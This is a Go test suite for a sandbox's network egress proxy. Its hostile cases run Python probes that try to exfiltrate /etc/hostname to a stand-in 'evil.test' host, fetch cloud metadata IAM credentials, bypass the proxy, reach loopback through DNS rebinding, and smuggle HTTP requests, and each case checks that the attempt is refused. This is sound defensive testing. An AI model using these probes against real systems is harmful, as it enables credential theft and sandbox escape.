//go:build linux

package hostile

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"testing"

	"github.com/vivarium-sandbox/vivarium/internal/netpolicy"
	"github.com/vivarium-sandbox/vivarium/internal/netproxy"
	"github.com/vivarium-sandbox/vivarium/internal/sandbox"
	"github.com/vivarium-sandbox/vivarium/internal/testutil"
)

// egressWorld is what the cases with an allowlist attack: a host of the
// test's own in a network namespace (allowed.test, reachable), a listener
// on the host's own address standing for the server's API, and names
// that resolve where an attacker would like them to. The allowlist is as
// careless as an operator can be: it names metadata, loopback and the
// host's own range too, which must stay refused all the same.
type egressWorld struct {
	host  *testutil.NetHost
	api   *counting
	names map[string][]netip.Addr
	rules []string

	missing string // why the world could not be made

	mu     sync.Mutex
	events map[string][]netproxy.Event // by test name
}

func newEgressWorld(t *testing.T) *egressWorld {
	t.Helper()
	if _, err := exec.LookPath("ip"); err != nil {
		// The cases with an allowlist skip; the rest of the suite runs.
		return &egressWorld{missing: "needs iproute2's ip (apt install iproute2) for its test host"}
	}
	h := testutil.NewNetHost(t)
	w := &egressWorld{host: h, api: listenCounting(t, "tcp", netip.AddrPortFrom(h.Peer, 0).String()),
		events: map[string][]netproxy.Event{}}
	w.names = map[string][]netip.Addr{
		"allowed.test":        {h.Addr},
		"rebind.allowed.test": {netip.MustParseAddr("127.0.0.1")},
		"meta.allowed.test":   {netip.MustParseAddr("169.254.169.254")},
		"mapped.allowed.test": {netip.MustParseAddr("::ffff:169.254.169.254")},
		"host.allowed.test":   {h.Peer},
		// Only the allowed address of a mixed answer is ever dialled.
		"mixed.allowed.test": {netip.MustParseAddr("127.0.0.1"), h.Addr},
	}
	w.rules = []string{
		fmt.Sprintf("allowed.test:%d", h.Port),
		fmt.Sprintf("%s:%d", h.Addr, h.Port), // its private address, allowed by an address rule
		"*.allowed.test:*",
		"169.254.169.254:*", "metadata.google.internal:*", "[fd00:ec2::254]:*",
		"127.0.0.0/8:*", "[::1]:*",
		fmt.Sprintf("%s/30:*", h.Peer), // the host's end of the veth pair, and the "API" on it
	}
	return w
}

// attach gives the job's sandbox a proxy with the world's allowlist and
// tells its code where the world's hosts are. A backend that cannot carry
// the proxy must refuse the job; the case checks that, and is skipped
// there.
func (w *egressWorld) attach(t *testing.T, h *harness, j *job, narrow ...netpolicy.Request) {
	t.Helper()
	proxy := w.proxy(t, narrow...)
	api := w.api.addr.(*net.TCPAddr).AddrPort()
	if err := sandbox.EgressSupported(h.be.B); err != nil {
		res, _ := sandbox.RunOnce(context.Background(), h.be.B, sandbox.OneShot{
			Spec: sandbox.Spec{Limits: baseLimits, Egress: proxy}, Request: sandbox.ExecRequest{Code: "print(1)"}})
		if res.Status != sandbox.StatusSetupFailed || !strings.Contains(res.Error.Value, h.be.B.Name()) {
			t.Fatalf("the %s backend cannot carry a proxy, yet did not refuse a network policy: %s %v", h.be.Name, res.Status, res.Error)
		}
		t.Skipf("the %s backend refuses a network policy (checked): %v", h.be.Name, err)
	}
	j.Spec.Egress = proxy
	j.vars["ALLOWED"] = fmt.Sprintf("allowed.test:%d", w.host.Port)
	j.vars["ADDR"] = w.host.Addr.String()
	j.vars["PEER"] = w.host.Peer.String()
	j.vars["NETHOST"] = w.host.Name
	j.vars["API"] = api.String()
	var ports []string
	for _, p := range h.canaries.Ports {
		ports = append(ports, fmt.Sprint(p))
	}
	j.vars["PORTS"] = strings.Join(ports, " ")
}

// proxy is a sandbox's proxy under the world's allowlist, as a server
// would give it: under the operator's policy, with the API listener
// refused, narrowed by the sandbox's own deny list and exceptions if
// given; its events are kept under the test's name.
func (w *egressWorld) proxy(t *testing.T, narrow ...netpolicy.Request) sandbox.Egress {
	t.Helper()
	if w.missing != "" {
		t.Skip(w.missing)
	}
	name := t.Name()
	var n netpolicy.Request
	for _, r := range narrow {
		n.Deny, n.Except = append(n.Deny, r.Deny...), append(n.Except, r.Except...)
	}
	return testutil.NewEgress(t, testutil.EgressConfig{
		Allow: w.rules, Deny: n.Deny, Except: n.Except, Names: w.names,
		DenyAddrs: []netip.AddrPort{w.api.addr.(*net.TCPAddr).AddrPort()},
		Limits:    netpolicy.Limits{MaxConns: 8},
		Audit: func(e netproxy.Event) {
			w.mu.Lock()
			w.events[name] = append(w.events[name], e)
			w.mu.Unlock()
		},
	})
}

// seen lists the job's connections as "METHOD HOST:PORT OUTCOME".
func (w *egressWorld) seen(t *testing.T) []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []string
	for _, e := range w.events[t.Name()] {
		out = append(out, fmt.Sprintf("%s %s:%d %s", e.Method, e.Host, e.Port, e.Outcome))
	}
	return out
}

// egressProbe fetches through the proxy (urllib reads HTTP_PROXY) and
// prints one line per attempt: the label, then "ok BODY", the HTTP status
// and the proxy's reason, or the error.
const egressProbe = `
import os, socket, errno, urllib.request, urllib.error
def fetch(label, url, data=None):
    try:
        body = urllib.request.urlopen(url, data=data, timeout=10).read().decode()
        print(label, "ok", body)
    except urllib.error.HTTPError as e:
        print(label, e.code, e.read().decode().strip())
    except urllib.error.URLError as e:
        print(label, "URLError", e.reason)
    except Exception as e:
        print(label, type(e).__name__, e)
def connect(label, addr, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    try:
        s = socket.socket(family, kind)
        s.settimeout(3)
        s.connect(addr)
        if kind == socket.SOCK_DGRAM:
            s.send(b"x")
        print(label, "connected")
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, e))
`

// wantLines checks that each line of want (label and the start of what
// follows) is in the output, in order, and nothing else.
func wantLines(t *testing.T, o *outcome, want ...string) {
	t.Helper()
	wantStatus(t, o, sandbox.StatusOK, 0)
	got := strings.Split(strings.TrimRight(o.Stdout, "\n"), "\n")
	if len(got) != len(want) {
		t.Fatalf("got %d lines, want %d:\n%s\nwant (prefixes):\n%s\nstderr: %s", len(got), len(want), o.Stdout,
			strings.Join(want, "\n"), o.Stderr)
	}
	for i := range want {
		if !strings.HasPrefix(got[i], want[i]) {
			t.Errorf("line %d:\n%s\nwant a line starting\n%s", i+1, got[i], want[i])
		}
	}
}

// wantSeen checks the proxy's audit events: every attempt that reached the
// proxy is recorded, with its outcome.
func wantSeen(t *testing.T, w *egressWorld, want ...string) {
	t.Helper()
	got := w.seen(t)
	for _, s := range want {
		found := false
		for _, g := range got {
			found = found || g == s
		}
		if !found {
			t.Errorf("audit lacks %q; has:\n%s", s, strings.Join(got, "\n"))
		}
	}
	if len(got) != len(want) {
		t.Errorf("audit has %d events, want %d:\n%s", len(got), len(want), strings.Join(got, "\n"))
	}
}

// Cases run with an allowlist set: the attacks go through the proxy that
// is the sandbox's only way out, and around it.
var egressCases = []hostileCase{
	{
		name: "egress_allowed_host_reachable",
		code: egressProbe + `
fetch("allowed", "http://" + os.environ["ALLOWED"] + "/hello.txt")
fetch("mixed", "http://mixed.allowed.test:8000/hello.txt")
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			// The refusals of the other cases mean something only if the
			// proxy lets the allowed through.
			wantLines(t, o, "allowed ok hello from "+o.vars["NETHOST"], "mixed ok hello from "+o.vars["NETHOST"])
			wantSeen(t, h.egress, "GET allowed.test:8000 allowed", "GET mixed.allowed.test:8000 allowed")
		},
	},
	{
		name: "egress_exfiltrate_to_unlisted_host",
		code: egressProbe + `
secret = open("/etc/hostname").read().encode()
fetch("post", "http://evil.test/collect", data=secret)
fetch("https", "https://evil.test/collect")
fetch("suffix", "http://allowed.test.evil.test/")
fetch("userinfo", "http://" + os.environ["ALLOWED"] + "@evil.test/")
fetch("port", "http://allowed.test:22/")
fetch("ip", "http://93.184.215.14/")
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			wantLines(t, o,
				"post 403 vivarium: evil.test port 80 is not in this sandbox's network allowlist",
				"https URLError Tunnel connection failed: 403 vivarium: evil.test port 443 is not in this sandbox's network allowlist",
				"suffix 403 vivarium: allowed.test.evil.test port 80 is not in",
				"userinfo 400 URLs with credentials before the host are refused",
				"port 403 vivarium: allowed.test port 22 is not in",
				"ip 403 vivarium: 93.184.215.14 port 80 is not in")
			wantSeen(t, h.egress, "POST evil.test:80 refused", "CONNECT evil.test:443 refused",
				"GET allowed.test.evil.test:80 refused", "GET evil.test:0 refused", "GET allowed.test:22 refused",
				"GET 93.184.215.14:80 refused")
		},
	},
	{
		name: "egress_around_the_proxy",
		code: egressProbe + `
import subprocess
env = dict(os.environ)
for k in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"):
    env.pop(k, None)
connect("direct", (os.environ["ADDR"], 8000))
connect("direct peer", (os.environ["PEER"], 8000))
connect("udp dns", ("8.8.8.8", 53), kind=socket.SOCK_DGRAM)
try:
    socket.getaddrinfo("allowed.test", 80)
    print("resolve", "resolved")
except socket.gaierror as e:
    print("resolve", "gaierror")
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("raw", "opened")
except OSError as e:
    print("raw", errno.errorcode.get(e.errno, e))
r = subprocess.run(["python3", "-c", "import urllib.request; urllib.request.urlopen('http://' + __import__('os').environ['ALLOWED'] + '/', timeout=5)"],
                   env=env, capture_output=True, text=True)
print("no proxy env", "refused" if r.returncode != 0 else "reached")
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			wantLines(t, o, "direct ENETUNREACH", "direct peer ENETUNREACH", "udp dns ENETUNREACH", "resolve gaierror",
				"raw EPERM", "no proxy env refused")
			wantSeen(t, h.egress)
		},
	},
	{
		name: "egress_metadata_though_allowlisted",
		code: egressProbe + `
fetch("aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
fetch("aws v6", "http://[fd00:ec2::254]/latest/meta-data/")
fetch("gcp", "http://metadata.google.internal/computeMetadata/v1/")
fetch("dns", "http://meta.allowed.test/")
fetch("mapped dns", "http://mapped.allowed.test/")
fetch("mapped", "http://[::ffff:169.254.169.254]/")
fetch("decimal", "http://2852039166/")
fetch("tunnel", "https://169.254.169.254/")
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			wantLines(t, o,
				"aws 403 vivarium: 169.254.169.254 port 80 is always refused",
				"aws v6 403 vivarium: fd00:ec2::254 port 80 is always refused",
				"gcp 403 vivarium: metadata.google.internal port 80 is always refused",
				"dns 403 vivarium: meta.allowed.test port 80 is refused: meta.allowed.test resolves to 169.254.169.254",
				"mapped dns 403 vivarium: mapped.allowed.test port 80 is refused: mapped.allowed.test resolves to 169.254.169.254",
				"mapped 403 vivarium: ",
				"decimal 403 vivarium refused 2852039166: invalid network policy",
				"tunnel URLError Tunnel connection failed: 403 vivarium: 169.254.169.254 port 443 is always refused")
			if n := len(h.egress.seen(t)); n != 8 {
				t.Errorf("%d audit events, want 8: %v", n, h.egress.seen(t))
			}
			for _, s := range h.egress.seen(t) {
				if !strings.HasSuffix(s, " refused") {
					t.Errorf("not refused: %s", s)
				}
			}
		},
	},
	{
		name: "egress_reach_the_api_and_host",
		code: egressProbe + `
# Loopback is the sandbox's own and NO_PROXY sends it there directly:
# through the proxy, it would be the host's.
for k in ("NO_PROXY", "no_proxy"):
    os.environ.pop(k, None)
api = os.environ["API"]
fetch("api", "http://" + api + "/v1/sandboxes")
fetch("api tunnel", "https://" + api + "/")
fetch("host name", "http://host.allowed.test:" + api.rsplit(":", 1)[1] + "/")
for port in os.environ["PORTS"].split():
    fetch("loopback " + port, "http://127.0.0.1:" + port + "/")
fetch("localhost", "http://localhost:%s/" % os.environ["PORTS"].split()[0])
fetch("rebind", "http://rebind.allowed.test/")
fetch("zero", "http://0.0.0.0:%s/" % os.environ["PORTS"].split()[0])
fetch("v6 loopback", "http://[::1]:%s/" % os.environ["PORTS"].split()[0])
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			api, peer := o.vars["API"], o.vars["PEER"]
			port := api[strings.LastIndex(api, ":")+1:]
			want := []string{
				"api 403 vivarium: " + peer + " port " + port + " is always refused",
				"api tunnel URLError Tunnel connection failed: 403 vivarium: " + peer + " port " + port + " is always refused",
				"host name 403 vivarium: host.allowed.test port " + port + " is refused: host.allowed.test resolves to " + peer,
			}
			for _, p := range strings.Fields(o.vars["PORTS"]) {
				want = append(want, "loopback "+p+" 403 vivarium: 127.0.0.1 port "+p+" is always refused: a loopback address")
			}
			want = append(want, "localhost 403 vivarium: localhost port",
				"rebind 403 vivarium: rebind.allowed.test port 80 is refused: rebind.allowed.test resolves to 127.0.0.1, a loopback address",
				"zero 403 vivarium: 0.0.0.0 port", "v6 loopback 403 vivarium: ::1 port")
			wantLines(t, o, want...)
			if n := h.egress.api.n.Load(); n != 0 {
				t.Errorf("the API listener on the host accepted %d connections", n)
			}
			for _, s := range h.egress.seen(t) {
				if !strings.HasSuffix(s, " refused") {
					t.Errorf("not refused: %s", s)
				}
			}
		},
	},
	{
		name: "egress_proxy_abuse",
		code: egressProbe + `
def raw(label, data):
    out = b""
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(data)
        while True:
            b = s.recv(4096)
            if not b:
                break
            out += b
        s.close()
    except OSError as e:
        out += ("(" + type(e).__name__ + ")").encode()
    print(label, out.split(b"\r\n", 1)[0].decode(errors="replace"), b"hello from" in out)
allowed = os.environ["ALLOWED"].encode()
# The Host header names another host: the request goes where its URL says.
raw("host header", b"GET http://" + allowed + b"/hello.txt HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
# A second request smuggled after the first, to a host not allowed.
raw("smuggle", b"GET http://" + allowed + b"/hello.txt HTTP/1.1\r\nHost: " + allowed + b"\r\nContent-Length: 0\r\n\r\n"
    b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
# A relative request is not a destination.
raw("origin form", b"GET /hello.txt HTTP/1.1\r\nHost: " + allowed + b"\r\nConnection: close\r\n\r\n")
raw("nul", b"GET http://evil.test%00.allowed.test/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
raw("huge head", b"GET http://" + allowed + b"/ HTTP/1.1\r\nX: " + b"a" * 200000 + b"\r\n\r\n")
`,
		prepare: func(t *testing.T, h *harness, j *job) { h.egress.attach(t, h, j) },
		check: func(t *testing.T, h *harness, o *outcome) {
			// The test host answers in HTTP/1.0, and the proxy passes the
			// status line on.
			wantLines(t, o, "host header HTTP/1.0 200 OK True", "smuggle HTTP/1.0 200 OK True", "origin form HTTP/1.1 400",
				"nul HTTP/1.1 400", "huge head ")
			if strings.Contains(o.Stdout, "huge head HTTP/1.0 200") {
				t.Errorf("an oversized head was passed on: %s", o.Stdout)
			}
			for _, s := range h.egress.seen(t) {
				if strings.Contains(s, "evil.test") && !strings.HasSuffix(s, " refused") {
					t.Errorf("evil.test reached: %s", s)
				}
			}
		},
	},
}

// allowlistDifferences are the cases whose safe outcome differs when every
// case runs with the egress world's allowlist set (the native-allowlist
// backend).
var allowlistDifferences = map[string]difference{
	"cloud_metadata": {
		why: "urllib goes through the sandbox's proxy, which answers 403 (metadata is refused whatever the allowlist says) where, without a proxy, there is no route at all",
		check: func(t *testing.T, h *harness, o *outcome) {
			wantOK(t, o, lines("169.254.169.254 ENETUNREACH", "169.254.170.2 ENETUNREACH",
				"100.100.100.200 ENETUNREACH", "168.63.129.16 ENETUNREACH", "fd00:ec2::254 ENETUNREACH",
				"urllib HTTPError"))
			wantSeen(t, h.egress, "GET 169.254.169.254:80 refused")
		},
	},
}
